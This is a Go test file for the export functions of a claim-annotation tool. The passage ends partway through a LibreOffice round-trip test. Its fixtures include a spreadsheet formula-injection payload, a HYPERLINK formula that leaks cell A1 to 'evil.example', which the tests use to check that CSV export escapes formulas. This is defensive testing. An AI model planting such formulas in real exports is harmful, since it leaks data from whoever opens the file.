package app

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/base64"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"claimdesk/app/export"
)

// exportFixture is a seeded workspace with one of everything an export covers.
type exportFixture struct {
	ws        *Workspace
	svc       *Services
	person    Span // entity mention, tagged "key;people" and "Alpha"
	note      Span // a note whose text is a spreadsheet formula
	claim     ClaimDetail
	troopsArt Article
	graded    Assessment
}

func newExportFixture(t *testing.T) *exportFixture {
	t.Helper()
	ws, svc := MustOpenWorkspace(t, false)
	f := &exportFixture{ws: ws, svc: svc}
	srcs, err := svc.Sources.List()
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range srcs {
		if s.Name == "Reuters" {
			b := "B"
			if _, err := svc.Sources.Update(s.ID, SourcePatch{Reliability: &b}); err != nil {
				t.Fatal(err)
			}
		}
	}
	a, s, e := articleWith(t, svc, "Reuters", "Olga Lyubimova")
	f.person, err = svc.Spans.Create(SpanInput{ArticleID: a.ID, Kind: "entity", EntityType: "person", Start: s, End: e,
		Quote: "Olga Lyubimova", Tags: []string{"key;people", "Alpha"}})
	if err != nil {
		t.Fatal(err)
	}
	a2, s2, e2 := articleWith(t, svc, "Reuters", "Kim Jong Un")
	f.note, err = svc.Spans.Create(SpanInput{ArticleID: a2.ID, Kind: "note", Start: s2, End: e2, Quote: "Kim Jong Un",
		Note: `=HYPERLINK("http://evil.example/?leak="&A1,"click")`})
	if err != nil {
		t.Fatal(err)
	}
	f.claim, f.troopsArt, _ = troopClaim(t, svc)
	if _, err := svc.Tags.TagClaim(f.claim.ID, "troops"); err != nil {
		t.Fatal(err)
	}
	span := f.claim.Mentions[0].SpanID
	f.graded, err = svc.Assessments.Add(AssessmentInput{ClaimID: f.claim.ID, Credibility: 2, Rationale: "Two outlets, one origin",
		Evidence: []EvidenceInput{{Stance: "supports", SpanID: &span, Note: "+1 from Reuters"}, {Stance: "context", URL: "https://example.org/x"}}})
	if err != nil {
		t.Fatal(err)
	}
	// An ungraded claim: not in the ClaimReview export.
	if _, err := svc.Claims.Create(ClaimInput{Statement: "Lyubimova visited Pyongyang"}); err != nil {
		t.Fatal(err)
	}
	return f
}

func readCSV(t *testing.T, content string) [][]string {
	t.Helper()
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(content, export.BOM)))
	r.FieldsPerRecord = 0
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatalf("CSV does not parse: %v\n%s", err, content)
	}
	return recs
}

// byHeader turns CSV records into maps keyed by the header.
func byHeader(t *testing.T, recs [][]string) []map[string]string {
	t.Helper()
	var out []map[string]string
	for _, r := range recs[1:] {
		m := map[string]string{}
		for i, h := range recs[0] {
			m[h] = r[i]
		}
		out = append(out, m)
	}
	return out
}

func readJSONL(t *testing.T, content string) []map[string]any {
	t.Helper()
	var out []map[string]any
	for i, line := range strings.Split(strings.TrimSuffix(content, "\n"), "\n") {
		if line == "" {
			continue
		}
		var m map[string]any
		dec := json.NewDecoder(strings.NewReader(line))
		dec.UseNumber()
		if err := dec.Decode(&m); err != nil {
			t.Fatalf("line %d is not a JSON object: %v\n%s", i+1, err, line)
		}
		out = append(out, m)
	}
	return out
}

func mustExport(t *testing.T, svc *Services, o ExportOptions) ExportResult {
	t.Helper()
	res, err := svc.Export.Export(o)
	if err != nil {
		t.Fatalf("export %+v: %v", o, err)
	}
	return res
}

func TestExportEveryWhatAsCSVAndJSONL(t *testing.T) {
	f := newExportFixture(t)
	want := map[string]string{ // a table each export must match in row count
		"annotations": "spans", "claims": "claims", "entities": "entities", "mentions": "claim_mentions",
		"assessments": "assessments", "evidence": "evidence", "sources": "sources",
	}
	for _, what := range ExportWhat {
		var n int
		f.ws.DB().QueryRow("SELECT count(*) FROM " + want[what]).Scan(&n)
		if n == 0 {
			t.Fatalf("fixture has no %s", want[what])
		}
		cols := ExportColumns(what)
		res := mustExport(t, f.svc, ExportOptions{What: what, Format: "csv"})
		recs := readCSV(t, res.Content)
		if !reflect.DeepEqual(recs[0], cols) {
			t.Errorf("%s CSV header %v; want %v", what, recs[0], cols)
		}
		if len(recs)-1 != n || res.Rows != n {
			t.Errorf("%s CSV: %d records, rows=%d; want %d", what, len(recs)-1, res.Rows, n)
		}
		if !strings.HasSuffix(res.Filename, ".csv") || !strings.Contains(res.Filename, what) {
			t.Errorf("%s filename %q", what, res.Filename)
		}
		if !strings.Contains(res.Content, "\r\n") || strings.HasPrefix(res.Content, export.BOM) {
			t.Errorf("%s CSV: records must end CR LF, no BOM without --excel", what)
		}
		jres := mustExport(t, f.svc, ExportOptions{What: what, Format: "jsonl"})
		lines := readJSONL(t, jres.Content)
		if len(lines) != n || jres.Rows != n {
			t.Errorf("%s JSONL: %d lines, rows=%d; want %d", what, len(lines), jres.Rows, n)
		}
		// The same values, CSV and JSON: same keys in the same order, same text.
		first := strings.SplitN(jres.Content, "\n", 2)[0]
		dec := json.NewDecoder(strings.NewReader(first))
		dec.Token()
		var keys []string
		for dec.More() {
			k, _ := dec.Token()
			keys = append(keys, k.(string))
			var skip json.RawMessage
			dec.Decode(&skip)
		}
		if !reflect.DeepEqual(keys, cols) {
			t.Errorf("%s JSONL keys %v; want %v", what, keys, cols)
		}
		rows := byHeader(t, recs)
		for i, line := range lines {
			for _, c := range cols {
				jv, cv := line[c], rows[i][c]
				var js string
				switch v := jv.(type) {
				case nil:
					js = ""
				case string:
					js = export.Cell(v)
				case json.Number:
					js = v.String()
				case bool:
					js = map[bool]string{true: "1", false: "0"}[v]
				case []any:
					var l []string
					for _, x := range v {
						l = append(l, x.(string))
					}
					js = export.Cell(export.JoinList(l))
				}
				if js != cv {
					t.Errorf("%s row %d column %s: JSONL %#v, CSV %q", what, i+1, c, jv, cv)
				}
			}
			if _, ok := line["offset_unit"]; ok && line["start_cp"] != nil && line["offset_unit"] != "codepoint" {
				t.Errorf("%s: offset_unit %v", what, line["offset_unit"])
			}
		}
	}
}

func TestExportAnnotationValues(t *testing.T) {
	f := newExportFixture(t)
	res := mustExport(t, f.svc, ExportOptions{What: "annotations", Format: "csv"})
	rows := byHeader(t, readCSV(t, res.Content))
	find := func(id int64) map[string]string {
		for _, r := range rows {
			if r["annotation_id"] == strconv.FormatInt(id, 10) {
				return r
			}
		}
		t.Fatalf("span %d not exported", id)
		return nil
	}
	p := find(f.person.ID)
	want := map[string]string{
		"article_id": strconv.FormatInt(f.person.ArticleID, 10), "source": "Reuters", "source_reliability": "B",
		"offset_unit": "codepoint", "start_cp": strconv.FormatInt(f.person.Start, 10), "end_cp": strconv.FormatInt(f.person.End, 10),
		"quote": "Olga Lyubimova", "prefix": f.person.Prefix, "suffix": f.person.Suffix, "kind": "entity",
		"entity_type": "person", "entity": "Olga Lyubimova", "entity_id": strconv.FormatInt(*f.person.EntityID, 10),
		"claim_id": "", "grade": "", "state": "accepted", "origin": "analyst", "confidence": "1",
		"tags": `Alpha;key\;people`, "anchor_status": "exact", "created_at": "2026-11-22T09:30:00.000Z",
	}
	for k, v := range want {
		if p[k] != v {
			t.Errorf("%s = %q; want %q", k, p[k], v)
		}
	}
	if got := export.SplitList(p["tags"]); !reflect.DeepEqual(got, []string{"Alpha", "key;people"}) {
		t.Errorf("tags split back to %q", got)
	}
	if len(p["article_sha256"]) != 64 || p["article_title"] == "" || p["analyst"] == "" || p["published_at"] == "" {
		t.Errorf("article columns: %v", p)
	}
	// A claim mention carries its claim and grade: Reuters B, credibility 2 → B2 (else F).
	for _, m := range f.claim.Mentions {
		r := find(m.SpanID)
		if r["claim_id"] != strconv.FormatInt(f.claim.ID, 10) || r["claim"] != f.claim.Statement || r["credibility"] != "2" {
			t.Errorf("claim mention row: %v", r)
		}
		wantGrade := "F2"
		if r["source"] == "Reuters" {
			wantGrade = "B2"
		}
		if r["grade"] != wantGrade {
			t.Errorf("grade %q; want %q (source %q)", r["grade"], wantGrade, r["source"])
		}
	}
	// The quote is the article text at [start, end) in code points.
	for _, r := range rows {
		id, _ := strconv.ParseInt(r["article_id"], 10, 64)
		a, _ := f.svc.Articles.Get(id)
		s, _ := strconv.Atoi(r["start_cp"])
		e, _ := strconv.Atoi(r["end_cp"])
		if got := string([]rune(a.Body)[s:e]); export.Cell(got) != r["quote"] {
			t.Errorf("span %s: text at [%d,%d) is %q, quote %q", r["annotation_id"], s, e, got, r["quote"])
		}
	}
}

func TestExportNeutralisesFormulas(t *testing.T) {
	ws, svc := MustOpenWorkspace(t, false)
	a, s, e := articleWith(t, svc, "Reuters", "Olga Lyubimova")
	if _, err := ws.DB().Exec(`UPDATE articles SET title = '+1 ' || title WHERE id = ?`, a.ID); err != nil {
		t.Fatal(err)
	}
	notes := []string{`=HYPERLINK("http://evil.example","x")`, "+1", "-2", "@SUM(A1:A9)", "\tx", "\rx",
		"-- an ordinary dash-led remark", "'=already quoted", "plain note", "'plain quote", "=1+1\r\nline two"}
	ids := map[int64]string{}
	for _, n := range notes {
		sp, err := svc.Spans.Create(SpanInput{ArticleID: a.ID, Kind: "note", Start: s, End: e, Quote: "Olga Lyubimova", Note: n})
		if err != nil {
			t.Fatal(err)
		}
		ids[sp.ID] = n
	}
	res := mustExport(t, svc, ExportOptions{What: "annotations", Format: "csv"})
	for _, r := range byHeader(t, readCSV(t, res.Content)) {
		id, _ := strconv.ParseInt(r["annotation_id"], 10, 64)
		note, ok := ids[id]
		if !ok {
			continue
		}
		wantNote := strings.ReplaceAll(note, "\r\n", "\n")
		switch note[0] {
		case '=', '+', '-', '@', '\t', '\r':
			wantNote = "'" + wantNote
		}
		if note == "'=already quoted" {
			wantNote = "''=already quoted" // one more ', so export.Restore can undo it exactly
		}
		if r["note"] != wantNote {
			t.Errorf("note %q exported as %q; want %q", note, r["note"], wantNote)
		}
		if export.Restore(r["note"]) != strings.ReplaceAll(note, "\r\n", "\n") {
			t.Errorf("Restore(%q) = %q", r["note"], export.Restore(r["note"]))
		}
		if !strings.HasPrefix(r["article_title"], "'+1 ") {
			t.Errorf("title %q not neutralised", r["article_title"])
		}
		for col, v := range r {
			if v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])) {
				t.Errorf("column %s starts with a formula character: %q", col, v)
			}
		}
	}
	// JSON keeps the text as stored.
	for _, l := range readJSONL(t, mustExport(t, svc, ExportOptions{What: "annotations", Format: "jsonl"}).Content) {
		id, _ := l["annotation_id"].(json.Number).Int64()
		if n, ok := ids[id]; ok && l["note"] != n {
			t.Errorf("JSONL note %q; want %q", l["note"], n)
		}
	}
}

func TestExportExcelBOM(t *testing.T) {
	f := newExportFixture(t)
	res := mustExport(t, f.svc, ExportOptions{What: "sources", Format: "csv", Excel: true})
	if !strings.HasPrefix(res.Content, "\xEF\xBB\xBFsource_id,name,") {
		t.Fatalf("no BOM: %q", res.Content[:20])
	}
	_, err := f.svc.Export.Export(ExportOptions{What: "sources", Format: "jsonl", Excel: true})
	wantCode(t, err, CodeInvalid, "CSV only")
}

func TestExportFilters(t *testing.T) {
	f := newExportFixture(t)
	count := func(o ExportOptions) int {
		t.Helper()
		return mustExport(t, f.svc, o).Rows
	}
	var spans, inArticle, suggested int
	f.ws.DB().QueryRow("SELECT count(*) FROM spans").Scan(&spans)
	f.ws.DB().QueryRow("SELECT count(*) FROM spans WHERE article_id = ?", f.person.ArticleID).Scan(&inArticle)
	if err := f.svc.Spans.SetState([]int64{f.note.ID}, "suggested"); err != nil {
		t.Fatal(err)
	}
	f.ws.DB().QueryRow("SELECT count(*) FROM spans WHERE state = 'suggested'").Scan(&suggested)
	if got := count(ExportOptions{What: "annotations", ArticleID: f.person.ArticleID}); got != inArticle || got == spans {
		t.Errorf("--article: %d rows; want %d (of %d)", got, inArticle, spans)
	}
	if got := count(ExportOptions{What: "annotations", Tag: "KEY;PEOPLE"}); got != 1 {
		t.Errorf("--tag (any case): %d rows; want 1", got)
	}
	if got := count(ExportOptions{What: "annotations", State: "suggested"}); got != suggested || got < 1 {
		t.Errorf("--state suggested: %d rows; want %d", got, suggested)
	}
	if got := count(ExportOptions{What: "annotations", State: "accepted"}); got != spans-suggested {
		t.Errorf("--state accepted: %d rows; want %d", got, spans-suggested)
	}
	if got := count(ExportOptions{What: "annotations", Since: "2026-11-22"}); got != spans {
		t.Errorf("--since today: %d; want %d", got, spans)
	}
	if got := count(ExportOptions{What: "annotations", Since: "2026-11-23"}); got != 0 {
		t.Errorf("--since tomorrow: %d; want 0", got)
	}
	if got := count(ExportOptions{What: "claims", Tag: "troops"}); got != 1 {
		t.Errorf("claims --tag: %d", got)
	}
	if got := count(ExportOptions{What: "claims", ArticleID: f.troopsArt.ID}); got != 1 {
		t.Errorf("claims --article: %d", got)
	}
	if got := count(ExportOptions{What: "mentions", ArticleID: f.troopsArt.ID}); got != 1 {
		t.Errorf("mentions --article: %d", got)
	}
	if got := count(ExportOptions{What: "evidence", Tag: "troops"}); got != 2 {
		t.Errorf("evidence --tag: %d", got)
	}
	if got := count(ExportOptions{What: "assessments", Tag: "troops"}); got != 1 {
		t.Errorf("assessments --tag: %d", got)
	}
	if got := count(ExportOptions{What: "entities", ArticleID: f.person.ArticleID}); got < 1 {
		t.Errorf("entities --article: %d", got)
	}
	if got := count(ExportOptions{What: "sources", ArticleID: f.person.ArticleID}); got != 1 {
		t.Errorf("sources --article: %d", got)
	}
	for _, c := range []struct {
		o        ExportOptions
		code     Code
		contains string
	}{
		{ExportOptions{What: "annotations", Since: "22/11/2026"}, CodeInvalid, "YYYY-MM-DD"},
		{ExportOptions{What: "annotations", Since: "2026-02-30"}, CodeInvalid, "YYYY-MM-DD"},
		{ExportOptions{What: "annotations", State: "maybe"}, CodeInvalid, "state must be"},
		{ExportOptions{What: "claims", State: "accepted"}, CodeInvalid, "annotations and mentions"},
		{ExportOptions{What: "sources", Tag: "x"}, CodeInvalid, "tag filter"},
		{ExportOptions{What: "annotations", Tag: "no such tag"}, CodeNotFound, "no such tag"},
		{ExportOptions{What: "annotations", ArticleID: 9999}, CodeNotFound, "article 9999"},
		{ExportOptions{What: "people"}, CodeInvalid, "what to export"},
		{ExportOptions{What: "annotations", Format: "xml"}, CodeInvalid, "format must be"},
		{ExportOptions{What: "claims", Format: "webannotation"}, CodeInvalid, "annotations only"},
		{ExportOptions{What: "annotations", Format: "claimreview"}, CodeInvalid, "claims only"},
	} {
		_, err := f.svc.Export.Export(c.o)
		wantCode(t, err, c.code, c.contains)
	}
}

// codepointSlice is text[start:end) counting code points, as the W3C model does.
func codepointSlice(text string, start, end int) string {
	r := []rune(text)
	return string(r[start:end])
}

func TestExportWebAnnotation(t *testing.T) {
	f := newExportFixture(t)
	// An emoji and 𝓚 before the span: code points, not UTF-16 units or bytes.
	sum, err := f.svc.Import.ImportFiles([]ImportFile{{Name: "astral.txt", Content: b64("Astral 😀\n𝓚 Lyubimová met 𝓚im in Pyongyang.")}}, ImportOptions{})
	if err != nil || sum.Imported != 1 {
		t.Fatalf("import: %+v %v", sum, err)
	}
	aid := sum.Items[0].ArticleID
	art, _ := f.svc.Articles.Get(aid)
	i := strings.Index(art.Body, "Lyubimová")
	start := int64(len([]rune(art.Body[:i])))
	if _, err := f.svc.Spans.Create(SpanInput{ArticleID: aid, Kind: "entity", EntityType: "person", Start: start, End: start + 9, Quote: "Lyubimová"}); err != nil {
		t.Fatal(err)
	}
	// Machine suggestions are shared only on request: one suggested span here.
	if _, err := f.ws.DB().Exec(`INSERT INTO spans (article_id, kind, entity_type, start_cp, end_cp, quote, state, origin, confidence, created_at, updated_at)
		SELECT article_id, 'entity', 'person', start_cp, end_cp, quote, 'suggested', 'rules', 0.8, created_at, updated_at FROM spans WHERE id = ?`, f.person.ID); err != nil {
		t.Fatal(err)
	}
	if res := mustExport(t, f.svc, ExportOptions{What: "annotations", Format: "webannotation", State: "suggested"}); res.Rows != 1 ||
		!strings.Contains(res.Content, `"claimdesk:state":"suggested"`) {
		t.Fatalf("suggestions on request: %d\n%s", res.Rows, res.Content)
	}
	res := mustExport(t, f.svc, ExportOptions{What: "annotations", Format: "webannotation"})
	lines := readJSONL(t, res.Content)
	var n int
	f.ws.DB().QueryRow("SELECT count(*) FROM spans WHERE state = 'accepted'").Scan(&n)
	if len(lines) != n || res.Rows != n || strings.Contains(res.Content, `"suggested"`) {
		t.Fatalf("%d annotations; want the %d accepted ones", len(lines), n)
	}
	motivations := map[string]string{"entity": "identifying", "claim": "assessing", "note": "commenting"}
	seen := map[string]bool{}
	for _, a := range lines {
		for _, k := range []string{"@context", "id", "type", "motivation", "body", "target", "created", "modified", "claimdesk:state", "claimdesk:origin", "claimdesk:confidence"} {
			if _, ok := a[k]; !ok {
				t.Fatalf("annotation lacks %q: %v", k, a)
			}
		}
		ctx := a["@context"].([]any)
		if ctx[0] != "http://www.w3.org/ns/anno.jsonld" || a["type"] != "Annotation" || !uuidURN.MatchString(a["id"].(string)) {
			t.Errorf("annotation head: %v %v %v", ctx, a["type"], a["id"])
		}
		kind := a["claimdesk:kind"].(string)
		seen[kind] = true
		if a["motivation"] != motivations[kind] {
			t.Errorf("%s motivation %v", kind, a["motivation"])
		}
		articleID, _ := a["claimdesk:articleId"].(json.Number).Int64()
		art, _ := f.svc.Articles.Get(articleID)
		target := a["target"].(map[string]any)
		if src := target["source"].(string); src != art.URL && (!uuidURN.MatchString(src) || src != a["claimdesk:article"]) {
			t.Errorf("target source %q", src)
		}
		sels := target["selector"].([]any)
		q := sels[0].(map[string]any)
		p := sels[1].(map[string]any)
		if q["type"] != "TextQuoteSelector" || p["type"] != "TextPositionSelector" {
			t.Fatalf("selectors: %v", sels)
		}
		s, _ := p["start"].(json.Number).Int64()
		e, _ := p["end"].(json.Number).Int64()
		if got := codepointSlice(art.Body, int(s), int(e)); got != q["exact"] {
			t.Errorf("exact %q but text at [%d,%d) is %q", q["exact"], s, e, got)
		}
		if pre := q["prefix"].(string); !strings.HasSuffix(codepointSlice(art.Body, 0, int(s)), pre) {
			t.Errorf("prefix %q does not precede the quote", pre)
		}
		if suf := q["suffix"].(string); !strings.HasPrefix(codepointSlice(art.Body, int(e), len([]rune(art.Body))), suf) {
			t.Errorf("suffix %q does not follow the quote", suf)
		}
		body := a["body"].([]any)
		purposes := map[string]string{}
		for _, b := range body {
			bm := b.(map[string]any)
			if bm["type"] != "TextualBody" {
				t.Errorf("body type %v", bm["type"])
			}
			purposes[bm["purpose"].(string)] = bm["value"].(string)
		}
		switch kind {
		case "entity":
			if purposes["identifying"] == "" || purposes["classifying"] == "" {
				t.Errorf("entity body: %v", body)
			}
		case "claim":
			if purposes["describing"] != f.claim.Statement || !strings.Contains(purposes["assessing"], "Probably true") {
				t.Errorf("claim body: %v", body)
			}
		case "note":
			if purposes["commenting"] == "" {
				t.Errorf("note body: %v", body)
			}
		}
	}
	for k := range motivations {
		if !seen[k] {
			t.Errorf("no %s annotation exported", k)
		}
	}
}

func TestExportClaimReview(t *testing.T) {
	f := newExportFixture(t)
	// A second graded claim, "cannot be judged": no ratingValue.
	other, err := f.svc.Claims.Create(ClaimInput{Statement: "A 125-strong delegation"})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := f.svc.Assessments.Add(AssessmentInput{ClaimID: other.ID, Credibility: 6}); err != nil {
		t.Fatal(err)
	}
	if _, err := f.svc.Export.SetReviewPublisher(ReviewPublisher{Organisation: "Example Checks", URLPattern: "https://checks.example.org/claims/{uuid}"}); err != nil {
		t.Fatal(err)
	}
	res := mustExport(t, f.svc, ExportOptions{What: "claims", Format: "claimreview"})
	lines := readJSONL(t, res.Content)
	if len(lines) != 2 || res.Rows != 2 {
		t.Fatalf("%d reviews; want the 2 assessed claims:\n%s", len(lines), res.Content)
	}
	for _, r := range lines {
		for _, k := range []string{"@context", "@type", "url", "claimReviewed", "reviewRating", "author", "datePublished", "itemReviewed"} {
			if _, ok := r[k]; !ok {
				t.Fatalf("ClaimReview lacks %q: %v", k, r)
			}
		}
		if r["@context"] != "https://schema.org" || r["@type"] != "ClaimReview" {
			t.Errorf("head: %v", r)
		}
		rating := r["reviewRating"].(map[string]any)
		item := r["itemReviewed"].(map[string]any)
		if item["@type"] != "Claim" {
			t.Errorf("itemReviewed: %v", item)
		}
		switch r["claimReviewed"] {
		case f.claim.Statement:
			if rating["ratingValue"].(json.Number).String() != "4" || rating["bestRating"].(json.Number).String() != "5" ||
				rating["worstRating"].(json.Number).String() != "1" || rating["alternateName"] != "Probably true" {
				t.Errorf("rating for credibility 2: %v", rating)
			}
			apps := item["appearance"].([]any)
			if len(apps) != 2 {
				t.Errorf("appearances: %v", apps)
			}
			for _, a := range apps {
				am := a.(map[string]any)
				if am["@type"] != "CreativeWork" || am["headline"] == "" {
					t.Errorf("appearance %v", am)
				}
			}
			if r["reviewBody"] != "Two outlets, one origin" || r["datePublished"] != "2026-11-22T09:30:00.000Z" {
				t.Errorf("review: %v", r)
			}
		case "A 125-strong delegation":
			if _, ok := rating["ratingValue"]; ok || rating["alternateName"] != "Truth cannot be judged" {
				t.Errorf("rating for credibility 6: %v", rating)
			}
		default:
			t.Errorf("unexpected claim %v", r["claimReviewed"])
		}
	}
	for c, want := range map[int64]int64{1: 5, 2: 4, 3: 3, 4: 2, 5: 1} {
		if v, ok := export.RatingFor(c); !ok || v != want {
			t.Errorf("RatingFor(%d) = %d", c, v)
		}
	}
	if _, ok := export.RatingFor(6); ok {
		t.Error("credibility 6 has a rating")
	}
}

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

// insertNoteSpans adds n note spans to the first article in one transaction, straight
// through SQL (a fixture for volume, not a path the app takes).
func insertNoteSpans(t testing.TB, ws *Workspace, n int) {
	t.Helper()
	var articleID int64
	var body string
	if err := ws.DB().QueryRow("SELECT id, body FROM articles ORDER BY id LIMIT 1").Scan(&articleID, &body); err != nil {
		t.Fatal(err)
	}
	runes := []rune(body)
	tx, err := ws.DB().Begin()
	if err != nil {
		t.Fatal(err)
	}
	st, err := tx.Prepare(`INSERT INTO spans (article_id, kind, start_cp, end_cp, quote, prefix, suffix, note, annotator, state, origin, confidence, created_at, updated_at)
		VALUES (?, 'note', ?, ?, ?, ?, ?, ?, 'bench', ?, ?, ?, '2026-11-22T09:30:00.000Z', '2026-11-22T09:30:00.000Z')`)
	if err != nil {
		t.Fatal(err)
	}
	states := []string{"accepted", "suggested", "rejected"}
	for i := 0; i < n; i++ {
		s := i % (len(runes) - 40)
		e := s + 1 + i%30
		pre := string(runes[max(0, s-32):s])
		suf := string(runes[e:min(len(runes), e+32)])
		origin, conf := "analyst", 1.0
		if i%3 == 1 {
			origin, conf = "rules", 0.75
		}
		if _, err := st.Exec(articleID, s, e, string(runes[s:e]), pre, suf, fmt.Sprintf("note %d, with \"quotes\"", i), states[i%3], origin, conf); err != nil {
			t.Fatal(err)
		}
	}
	if err := tx.Commit(); err != nil {
		t.Fatal(err)
	}
}

func TestExportStreamsManyRowsAcrossPages(t *testing.T) {
	ws, svc := MustOpenWorkspace(t, false)
	insertNoteSpans(t, ws, 12345)
	var ev recordingEvents
	ws.Events = &ev
	var total, accepted int
	ws.DB().QueryRow("SELECT count(*) FROM spans").Scan(&total)
	ws.DB().QueryRow("SELECT count(*) FROM spans WHERE state = 'accepted'").Scan(&accepted)
	for _, c := range []struct {
		o    ExportOptions
		want int
	}{{ExportOptions{What: "annotations", Format: "csv"}, total}, {ExportOptions{What: "annotations", Format: "csv", State: "accepted"}, accepted}} {
		path := filepath.Join(t.TempDir(), "all.csv")
		res, err := svc.Export.ExportToFile(path, false, c.o)
		if err != nil {
			t.Fatal(err)
		}
		fh, _ := os.Open(path)
		r := csv.NewReader(fh)
		r.ReuseRecord = true
		r.Read()
		seen := map[string]bool{}
		last := int64(0)
		rows := 0
		for {
			rec, err := r.Read()
			if err == io.EOF {
				break
			}
			if err != nil {
				t.Fatal(err)
			}
			id, _ := strconv.ParseInt(rec[0], 10, 64)
			if seen[rec[0]] || id <= last {
				t.Fatalf("row %s duplicated or out of order (after %d)", rec[0], last)
			}
			seen[rec[0]] = true
			last = id
			rows++
		}
		fh.Close()
		if rows != c.want || res.Rows != c.want {
			t.Fatalf("%+v: %d rows in the file, %d reported; want %d", c.o, rows, res.Rows, c.want)
		}
	}
	// Progress: one event before the first page and one per page, ending at the total.
	evs := ev.progress("export")
	if len(evs) < 4 || evs[len(evs)-1].Done != evs[len(evs)-1].Total {
		t.Fatalf("progress events: %+v", evs)
	}
	// Small pages: every boundary position, with filters on.
	defer func(n int64) { exportPageSize = n }(exportPageSize)
	for _, size := range []int64{1, 7, 4096} {
		exportPageSize = size
		if size < 10 {
			res := mustExport(t, svc, ExportOptions{What: "sources", Format: "jsonl"})
			var n int
			ws.DB().QueryRow("SELECT count(*) FROM sources").Scan(&n)
			if res.Rows != n || len(readJSONL(t, res.Content)) != n {
				t.Errorf("page size %d: %d sources; want %d", size, res.Rows, n)
			}
			continue
		}
		res := mustExport(t, svc, ExportOptions{What: "annotations", Format: "jsonl", State: "suggested"})
		var n int
		ws.DB().QueryRow("SELECT count(*) FROM spans WHERE state = 'suggested'").Scan(&n)
		if res.Rows != n || len(readJSONL(t, res.Content)) != n {
			t.Errorf("page size %d: %d rows; want %d", size, res.Rows, n)
		}
	}
}

type recordingEvents struct {
	mu  sync.Mutex
	evs []Progress
}

func (r *recordingEvents) Emit(name string, data any) {
	if p, ok := data.(Progress); ok && name == "progress" {
		r.mu.Lock()
		r.evs = append(r.evs, p)
		r.mu.Unlock()
	}
}

func (r *recordingEvents) progress(task string) []Progress {
	r.mu.Lock()
	defer r.mu.Unlock()
	var out []Progress
	for _, p := range r.evs {
		if p.Task == task {
			out = append(out, p)
		}
	}
	return out
}

func TestExportToFileRefusals(t *testing.T) {
	f := newExportFixture(t)
	dir := t.TempDir()
	path := filepath.Join(dir, "claims.csv")
	o := ExportOptions{What: "claims", Format: "csv"}
	res, err := f.svc.Export.ExportToFile(path, false, o)
	if err != nil || res.Rows != 2 || res.Path != path {
		t.Fatalf("first export: %+v %v", res, err)
	}
	if st, _ := os.Stat(path); st.Mode().Perm() != 0o600 {
		t.Errorf("mode %v; want 0600", st.Mode().Perm())
	}
	os.WriteFile(path, []byte("precious"), 0o600)
	_, err = f.svc.Export.ExportToFile(path, false, o)
	wantCode(t, err, CodeConflict, "exists")
	if b, _ := os.ReadFile(path); string(b) != "precious" {
		t.Fatal("a refused export changed the file")
	}
	if _, err := f.svc.Export.ExportToFile(path, true, o); err != nil {
		t.Fatal(err)
	}
	if b, _ := os.ReadFile(path); !strings.HasPrefix(string(b), "claim_id,") {
		t.Fatalf("overwrite gave %q", b)
	}
	left, _ := filepath.Glob(filepath.Join(dir, ".*tmp"))
	if len(left) > 0 {
		t.Errorf("temporary files left: %v", left)
	}
	for _, c := range []struct {
		path, contains string
		o              ExportOptions
	}{
		{"relative.csv", "absolute path", o},
		{filepath.Join(dir, "claims.txt"), "ending in .csv", o},
		{filepath.Join(dir, ".bashrc"), "ending in .csv", o},
		{filepath.Join(dir, "claims.csv"), "ending in .jsonl", ExportOptions{What: "claims", Format: "jsonl"}},
		{filepath.Join(dir, "missing", "x.csv"), "does not exist", o},
		{f.ws.DB().Path, "ending in .csv", o},
	} {
		_, err := f.svc.Export.ExportToFile(c.path, true, c.o)
		wantCode(t, err, CodeInvalid, c.contains)
	}
	os.Mkdir(filepath.Join(dir, "d.csv"), 0o700)
	_, err = f.svc.Export.ExportToFile(filepath.Join(dir, "d.csv"), true, o)
	wantCode(t, err, CodeInvalid, "folder")
	// A failed export (unknown article) leaves no file behind.
	_, err = f.svc.Export.ExportToFile(filepath.Join(dir, "none.csv"), false, ExportOptions{What: "annotations", ArticleID: 777})
	wantCode(t, err, CodeNotFound, "article 777")
	if _, err := os.Stat(filepath.Join(dir, "none.csv")); err == nil {
		t.Error("a failed export left its file")
	}
}

func TestExportInMemoryIsBounded(t *testing.T) {
	f := newExportFixture(t)
	defer func(n int) { exportByteCap = n }(exportByteCap)
	exportByteCap = 1 << 10
	_, err := f.svc.Export.Export(ExportOptions{What: "annotations", Format: "csv"})
	wantCode(t, err, CodeInvalid, "save it to a file")
}

func TestExportCancel(t *testing.T) {
	ws, svc := MustOpenWorkspace(t, false)
	insertNoteSpans(t, ws, 3000)
	defer func(n int64) { exportPageSize = n }(exportPageSize)
	exportPageSize = 10
	if svc.Export.Cancel() {
		t.Error("Cancel with nothing running")
	}
	ws.Events = cancelAfter{svc: svc.Export, n: 3}
	_, err := svc.Export.Export(ExportOptions{What: "annotations"})
	wantCode(t, err, CodeConflict, "cancelled")
}

type cancelAfter struct {
	svc *ExportService
	n   int
}

func (c cancelAfter) Emit(name string, data any) {
	if p, ok := data.(Progress); ok && p.Done >= c.n*10 {
		c.svc.Cancel()
	}
}

// TestExportCSVInLibreOffice converts an exported CSV (BOM, non-ASCII, astral characters,
// a formula-looking note) with LibreOffice to xlsx and back, and checks the cells. Needs
// `apt-get install --no-install-recommends libreoffice-calc-nogui`; skipped without soffice.
func TestExportCSVInLibreOffice(t *testing.T) {
	soffice, err := exec.LookPath("soffice")
	if err != nil {
		t.Skip("soffice not installed (apt-get install --no-install-recommends libreoffice-calc-nogui)")
	}
	ws, svc := MustOpenWorkspace(t, false)
	sum, err := svc.Import.ImportFiles([]ImportFile{{Name: "lo.txt", Content: b64("Lyubimová in Pyongyang 𝓚\nOlga Lyubimová met 𝓚im Jong Un, said \"hello, world\".")}}, ImportOptions{})
	if err != nil || sum.Imported != 1 {
		t.Fatalf("import: %+v %v", sum, err)
	}
	aid := sum.Items[0].ArticleID
	art, _ := svc.Articles.Get(aid)
	i := strings.Index(art.Body, "Olga Lyubimová")
	s := int64(len([]rune(art.Body[:i])))
